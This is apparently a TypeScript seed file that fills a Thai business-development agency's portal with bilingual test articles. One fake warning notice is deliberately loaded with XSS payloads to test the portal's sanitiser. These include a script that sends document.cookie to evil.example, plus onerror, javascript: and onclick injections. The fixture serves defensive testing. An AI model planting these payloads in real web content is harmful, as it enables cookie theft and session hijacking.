// Articles: news and know-how of the agency (source 'own') and of the ministry ('moc'),
// the "about" page (slug 'a') and one article with hostile HTML for the portal's sanitiser.
import type { Lang } from '../types.ts';
import { prng, dateTime, be, slugify } from './prng.ts';
import { TOPICS, ARTICLE_TITLES, PROVINCES, CONTACT_PARAGRAPH, fill, cap, AGENCY } from './text.ts';
import { html } from './helpers.ts';
import type { SeedContext } from './helpers.ts';

export const DEFAULT_ARTICLES = 48;
/** Slug of the article whose body carries <script>, onerror= and javascript: (sanitiser test). */
const HOSTILE_ARTICLE_SLUG = 'warning-fake-websites-impersonating-the-department';

const TOPIC_CATEGORY: Record<string, string> = {
  export: 'export',
  tradefair: 'export',
  ecommerce: 'e-commerce',
  digital: 'e-commerce',
  loans: 'finance',
  franchise: 'franchise',
  packaging: 'branding',
  trademark: 'branding',
  community: 'community',
  halal: 'community',
  bcg: 'knowledge',
  logistics: 'knowledge',
  startup: 'knowledge',
  service: 'knowledge',
};

export function seedArticles(s: SeedContext, count = DEFAULT_ARTICLES) {
  const { db, insert, image, attach } = s;
  const rnd = prng(1001);
  const cats = Object.fromEntries(
    db
      .prepare("SELECT slug, id FROM categories WHERE area = 'article'")
      .all()
      .map((r) => [r.slug, r.id]),
  );
  const offices = db
    .prepare("SELECT id FROM departments WHERE kind = 'office' ORDER BY id")
    .all()
    .map((r) => r.id);
  const sources = Object.fromEntries(
    db
      .prepare("SELECT slug, id FROM departments WHERE kind = 'source'")
      .all()
      .map((r) => [r.slug, r.id]),
  );
  const provinces = db.prepare('SELECT id, region_id FROM province_contacts ORDER BY id').all();
  const seen = new Set();
  const span = 730; // two years of articles up to the base date

  for (let i = 0; i < count; i++) {
    const topic = TOPICS[i % TOPICS.length];
    const tplIndex = Math.floor(i / TOPICS.length) % ARTICLE_TITLES.length;
    const tpl = ARTICLE_TITLES[tplIndex];
    const edition = Math.floor(i / (TOPICS.length * ARTICLE_TITLES.length)) + 1;
    const pIndex = rnd.int(0, PROVINCES.length - 1);
    const [provTh, provEn] = PROVINCES[pIndex];
    const days = -Math.floor((i * span) / Math.max(count, 1)) - rnd.int(0, 1);
    const published = dateTime(days, 8 + rnd.int(0, 8), rnd.pick([0, 15, 30, 45]));
    const year = Number(published.slice(0, 4));
    let titleTh = fill(tpl.th, { t: topic.th, p: provTh, y: be(year) });
    let titleEn = cap(fill(tpl.en, { t: topic.en, p: provEn, y: year }));
    if (edition > 1) {
      titleTh += ` (ตอนที่ ${edition})`;
      titleEn += ` (part ${edition})`;
    }
    let slug = slugify(titleEn);
    if (seen.has(slug)) slug = `${slug}-${i + 1}`;
    seen.add(slug);
    const isSuccess = tplIndex === 3;
    const source = i % 4 === 3 ? 'moc' : 'own';
    const id = i + 1;
    const body = (lang: Lang) => {
      const t = lang === 'th' ? topic : null;
      return (
        html(t ? topic.sumTh : topic.sumEn, t ? topic.bodyTh : topic.bodyEn) +
        (lang === 'th'
          ? `\n<h2>ประเด็นสำคัญ</h2>\n<ul><li>ผู้ประกอบการในจังหวัด${provTh}และจังหวัดใกล้เคียงเข้าร่วมได้</li><li>ไม่มีค่าใช้จ่ายสำหรับสมาชิกที่ลงทะเบียนกับกรมฯ</li><li>ติดตามข่าวสารได้ทางเว็บไซต์และสื่อสังคมออนไลน์ของกรมฯ</li></ul>\n`
          : `\n<h2>Key points</h2>\n<ul><li>Open to businesses in ${provEn} and neighbouring provinces</li><li>Free of charge for members registered with the Department</li><li>Follow updates on the Department's website and social media</li></ul>\n`) +
        html(lang === 'th' ? CONTACT_PARAGRAPH.th : CONTACT_PARAGRAPH.en)
      );
    };
    insert('articles', {
      id,
      slug,
      category_id: cats[isSuccess ? 'success' : TOPIC_CATEGORY[topic.key]],
      department_id: i % 3 === 0 ? sources[source] : offices[i % offices.length],
      source,
      is_success_case: isSuccess,
      region_id: provinces[pIndex].region_id,
      province_id: provinces[pIndex].id,
      title_th: titleTh,
      title_en: titleEn,
      summary_th: topic.sumTh,
      summary_en: topic.sumEn,
      body_th: body('th'),
      body_en: body('en'),
      cover: image(`/files/covers/article-${id}.svg`, [titleTh, titleEn], [AGENCY.th, AGENCY.en], id),
      published_at: published,
      updated_at: published,
      views: rnd.int(40, 4800),
    });
    if (i % 3 === 0)
      attach('article', id, `/files/attachments/article-${id}.pdf`, `เอกสารประกอบ: ${titleTh}`, `Document: ${titleEn}`);
  }

  // The agency's "about" page, served by /content/page/a and kept out of the lists.
  const aboutId = count + 1;
  insert('articles', {
    id: aboutId,
    slug: 'a',
    category_id: cats.knowledge,
    department_id: sources.own,
    source: 'own',
    is_page: 1,
    title_th: 'เกี่ยวกับกรมส่งเสริมการพัฒนาธุรกิจ',
    title_en: 'About the Department of Business Development Promotion',
    summary_th: 'วิสัยทัศน์ พันธกิจ และบทบาทของกรมในการพัฒนาผู้ประกอบการไทย',
    summary_en: 'Vision, mission and role of the Department in developing Thai entrepreneurs.',
    body_th: html(
      'กรมส่งเสริมการพัฒนาธุรกิจ สังกัดกระทรวงพาณิชย์ มีภารกิจส่งเสริมและพัฒนาผู้ประกอบการวิสาหกิจขนาดกลางและขนาดย่อมให้มีขีดความสามารถในการแข่งขัน ทั้งในตลาดภายในประเทศและตลาดโลก',
      'วิสัยทัศน์: ผู้ประกอบการไทยเติบโตอย่างยั่งยืนด้วยนวัตกรรมและการค้าที่เป็นธรรม',
      'พันธกิจ: ให้คำปรึกษาธุรกิจ พัฒนาทักษะผู้ประกอบการ เชื่อมโยงตลาดและแหล่งเงินทุน และให้บริการข้อมูลธุรกิจอย่างครบวงจร',
    ),
    body_en: html(
      'The Department of Business Development Promotion, part of the Ministry of Commerce, helps small and medium-sized enterprises compete at home and in world markets.',
      'Vision: Thai entrepreneurs growing sustainably through innovation and fair trade.',
      'Mission: business advice, entrepreneur skills, links to markets and finance, and complete business information services.',
    ),
    cover: image('/files/covers/about.svg', ['เกี่ยวกับกรม', 'About the Department'], [AGENCY.th, AGENCY.en], 0),
    published_at: dateTime(-900),
    updated_at: dateTime(-30),
    views: 5210,
  });

  // A real-looking notice whose body carries hostile markup: the portal must sanitise it.
  const hostileId = count + 2;
  insert('articles', {
    id: hostileId,
    slug: HOSTILE_ARTICLE_SLUG,
    category_id: cats.knowledge,
    department_id: sources.own,
    source: 'own',
    title_th: 'ประกาศเตือนภัย: เว็บไซต์ปลอมแอบอ้างกรมส่งเสริมการพัฒนาธุรกิจ',
    title_en: 'Warning: fake websites impersonating the Department',
    summary_th: 'กรมฯ ไม่มีนโยบายเรียกเก็บค่าธรรมเนียมผ่านลิงก์ในข้อความ โปรดตรวจสอบที่อยู่เว็บไซต์ก่อนกรอกข้อมูล',
    summary_en:
      'The Department never asks for fees through links in messages. Check the address before entering any data.',
    body_th:
      '<p>พบเว็บไซต์ปลอมที่คัดลอกหน้าตาเว็บไซต์ของกรมฯ เพื่อหลอกให้กรอกข้อมูลบัตรประชาชนและรหัสผ่าน</p>\n' +
      '<script>document.title = "hacked"; fetch("https://evil.example/steal?c=" + document.cookie)</script>\n' +
      '<p><img src="/files/covers/about.th.svg" alt="ตัวอย่างหน้าเว็บปลอม" onerror="alert(\'xss\')"></p>\n' +
      '<p>ห้ามคลิก <a href="javascript:alert(\'xss\')">ลิงก์รับเงินคืนภาษี</a> ที่ส่งมาทาง SMS</p>\n' +
      '<p onclick="alert(1)" style="position:fixed;top:0">หากพบเห็นโปรดแจ้งศูนย์บริการข้อมูลธุรกิจ โทร. 1570</p>',
    body_en:
      "<p>Fake websites copying the Department's pages ask visitors for ID card numbers and passwords.</p>\n" +
      '<script>document.title = "hacked"; fetch("https://evil.example/steal?c=" + document.cookie)</script>\n' +
      '<p><img src="/files/covers/about.svg" alt="Example of a fake page" onerror="alert(\'xss\')"></p>\n' +
      '<p>Never click a <a href="javascript:alert(\'xss\')">tax refund link</a> sent by SMS.</p>\n' +
      '<p onclick="alert(1)" style="position:fixed;top:0">Report such sites to the business information centre on 1570.</p>',
    cover: image('/files/covers/warning.svg', ['ระวังเว็บไซต์ปลอม', 'Warning: fake websites'], [AGENCY.th, AGENCY.en], 3),
    published_at: dateTime(-2, 10, 0),
    updated_at: dateTime(-2, 10, 0),
    views: 812,
  });
}
